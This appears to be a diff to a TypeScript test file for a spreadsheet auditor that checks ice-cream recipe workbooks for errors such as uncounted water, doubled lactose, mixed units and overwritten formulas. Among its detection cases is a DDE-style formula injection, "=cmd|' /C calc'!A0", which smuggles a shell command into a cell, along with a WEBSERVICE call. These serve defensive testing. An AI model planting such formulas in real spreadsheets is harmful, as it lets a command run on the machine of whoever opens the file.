@@ -1,5 +1,6 @@
-import type { WorkbookSheet } from "../../src/workbook/model";
+import type { Workbook, WorkbookSheet } from "../../src/workbook/model";
 import { rules } from "../../src/audit/rules";
+import type { ShortCell } from "../../src/workbook/sheetFromRows";
 import type { Rows } from "./bookOf";
 import { formula } from "./bookOf";
 import { callFunction } from "../../src/worksheet/callFunction";
@@ -33,6 +34,18 @@ function iceRows(label: string, basis: "water" | "mix"): Rows {
   ];
 }
 
+const lactoseOf = (item: string, grams: number): number =>
+  Math.round(Number(callFunction("COMPONENT", [[item]], [[grams]], "lactose")[0]?.[0]) * 10) / 10;
+
+/** A costed recipe of some rows; the cost column is made row by row, counted as on the sheet. */
+function priced(rows: number, cost: (row: number) => ShortCell): Rows {
+  const names = ["Water", "Sucrose", "Fructose", "Glucose", "Lemon juice"].slice(0, rows);
+  return [
+    ["Ingredient", "g", "Price per kg", "Cost"],
+    ...names.map((name, at) => [name, 100, 2, cost(at + 2)]),
+  ];
+}
+
 interface Case {
   readonly rule: string;
   readonly what: string;
@@ -40,6 +53,7 @@ interface Case {
   /** Cells that are flagged; [] for a false example. */
   readonly cells: readonly string[];
   readonly extras?: Partial<WorkbookSheet>;
+  readonly workbook?: Partial<Workbook>;
 }
 
 const CASES: readonly Case[] = [
@@ -565,19 +579,228 @@ const CASES: readonly Case[] = [
     ],
     cells: [],
   },
+  // water-not-counted: cream of 35 % fat is about 59 % water, strawberries about 91 % (USDA FoodData Central)
+  {
+    rule: "water-not-counted",
+    what: "the water of strawberries left out",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 200],
+      ["Sucrose", 150],
+      ["Strawberry", 300],
+      [null],
+      ["Water in the mix (g)", 200],
+    ],
+    cells: ["B6"],
+  },
+  {
+    rule: "water-not-counted",
+    what: "water alone, where there is no other",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 200],
+      ["Sucrose", 50],
+      [null],
+      ["Water in the mix (g)", 200],
+    ],
+    cells: [],
+  },
+  // per-water-or-per-mix: 115 g of sucrose in 350 g of water are 32.9 g per 100 g of water and 24.7 % by mass
+  {
+    rule: "per-water-or-per-mix",
+    what: "g per 100 g of water called mass %",
+    rows: [["Ingredient", "g"], ["Water", 350], ["Sucrose", 115], [null], ["Sugar, mass %", 32.9]],
+    cells: ["B5"],
+  },
+  {
+    rule: "per-water-or-per-mix",
+    what: "mass % called g per 100 g of water",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 350],
+      ["Sucrose", 115],
+      [null],
+      ["Sugar, g per 100 g water", 24.7],
+    ],
+    cells: ["B5"],
+  },
+  {
+    rule: "per-water-or-per-mix",
+    what: "each by its name",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 350],
+      ["Sucrose", 115],
+      [null],
+      ["Sugar, g per 100 g water", 32.9],
+      ["Sugar, mass %", 24.7],
+    ],
+    cells: [],
+  },
+  // lactose-twice: skim milk powder is about half lactose
+  {
+    rule: "lactose-twice",
+    what: "the lactose of milk powder listed again",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 600],
+      ["Skim milk powder", 100],
+      ["Sucrose", 120],
+      ["Lactose", lactoseOf("skim milk powder", 100)],
+    ],
+    cells: ["B5"],
+  },
+  {
+    rule: "lactose-twice",
+    what: "some lactose added",
+    rows: [
+      ["Ingredient", "g"],
+      ["Water", 600],
+      ["Skim milk powder", 100],
+      ["Sucrose", 120],
+      ["Lactose", 15],
+    ],
+    cells: [],
+  },
+  // percent-and-fraction
+  {
+    rule: "percent-and-fraction",
+    what: "0.1 among percentages",
+    rows: [
+      ["Ingredient", "Share %"],
+      ["Water", 70],
+      ["Sucrose", 20],
+      ["Fructose", 0.1],
+    ],
+    cells: ["B4"],
+  },
+  {
+    rule: "percent-and-fraction",
+    what: "half a per cent of a gum",
+    rows: [
+      ["Ingredient", "Share %"],
+      ["Water", 70],
+      ["Sucrose", 29.5],
+      ["Guar gum", 0.5],
+    ],
+    cells: [],
+  },
+  // mass-units-mixed
+  {
+    rule: "mass-units-mixed",
+    what: "kg marked in a column of grams",
+    rows: [
+      ["Ingredient", "Amount (g)", "Unit"],
+      ["Water", 0.5, "kg"],
+      ["Sucrose", 150, "g"],
+      ["Fructose", 20, "g"],
+    ],
+    cells: ["B2"],
+  },
+  {
+    rule: "mass-units-mixed",
+    what: "units that differ where the header names none",
+    rows: [
+      ["Ingredient", "Amount", "Unit"],
+      ["Water", 0.5, "kg"],
+      ["Sucrose", 150, "g"],
+      ["Fructose", 20, "g"],
+    ],
+    cells: [],
+  },
+  // formula-overwritten
+  {
+    rule: "formula-overwritten",
+    what: "a number among formulas",
+    rows: priced(5, (row) => (row === 4 ? 1.5 : formula(`B${row}*C${row}/1000`, 1))),
+    cells: ["D4"],
+  },
+  {
+    rule: "formula-overwritten",
+    what: "another formula among formulas",
+    rows: priced(5, (row) => formula(row === 4 ? "B3*C4/1000" : `B${row}*C${row}/1000`, 1)),
+    cells: ["D4"],
+  },
+  {
+    rule: "formula-overwritten",
+    what: "one pattern down the column",
+    rows: priced(5, (row) => formula(`B${row}*C${row}/1000`, 1)),
+    cells: [],
+  },
+  { rule: "formula-overwritten", what: "numbers only", rows: priced(5, () => 1), cells: [] },
+  // value-from-outside
+  {
+    rule: "value-from-outside",
+    what: "an amount from another workbook",
+    rows: recipe(["Fructose", formula("[1]Stock!B2", 30)]),
+    cells: ["B4"],
+    workbook: { externalLinks: ["file:///shelf/stock%20list.xlsx"] },
+  },
+  {
+    rule: "value-from-outside",
+    what: "a result by a missing add-in",
+    rows: recipe(["Freezing point", formula("_xldudf_COLD_POINT(B2:B3)", -1.75)]),
+    cells: ["B4"],
+  },
+  {
+    rule: "value-from-outside",
+    what: "an amount from another sheet",
+    rows: recipe(["Fructose", formula("Stock!B2", 30)]),
+    cells: [],
+  },
+  {
+    rule: "value-from-outside",
+    what: "a link that no recipe uses",
+    rows: recipe([null], ["Rent", formula("[1]Stock!B2", 30)]),
+    cells: [],
+    workbook: { externalLinks: ["stock.xlsx"] },
+  },
+  // manual-calculation
+  {
+    rule: "manual-calculation",
+    what: "a recipe book set to manual",
+    rows: recipe(),
+    cells: ["A1:B3"],
+    workbook: { calculation: "manual" },
+  },
+  {
+    rule: "manual-calculation",
+    what: "a recipe book that recalculates",
+    rows: recipe(),
+    cells: [],
+  },
+  // formula-reaches-out
+  {
+    rule: "formula-reaches-out",
+    what: "WEBSERVICE",
+    rows: [[formula('WEBSERVICE("http://example.org/"&A2)', "x")]],
+    cells: ["A1"],
+  },
+  {
+    rule: "formula-reaches-out",
+    what: "a pasted command",
+    rows: [["=cmd|' /C calc'!A0"]],
+    cells: ["A1"],
+  },
+  {
+    rule: "formula-reaches-out",
+    what: "a plain link",
+    rows: [[formula('HYPERLINK("https://example.org/","notes")', "notes")]],
+    cells: [],
+  },
 ];
 
 const examples = (wanted: boolean) =>
   CASES.filter(({ cells }) => cells.length > 0 === wanted).map((example) => ({ ...example }));
 
-test.each(examples(true))("$rule flags $what", ({ rows, rule, cells, extras }) => {
-  const found = of(findingsOf(rows, extras), rule);
+test.each(examples(true))("$rule flags $what", ({ rows, rule, cells, extras, workbook }) => {
+  const found = of(findingsOf(rows, extras, workbook), rule);
   expect(found.map(({ cell }) => cell)).toEqual(cells);
   for (const { message } of found) expect(message).toMatch(/^.{20,300}$/);
 });
 
-test.each(examples(false))("$rule leaves alone $what", ({ rows, rule, extras }) => {
-  expect(of(findingsOf(rows, extras), rule)).toEqual([]);
+test.each(examples(false))("$rule leaves alone $what", ({ rows, rule, extras, workbook }) => {
+  expect(of(findingsOf(rows, extras, workbook), rule)).toEqual([]);
 });
 
 describe.each(rules.map(({ id }) => id))("%s", (id) => {
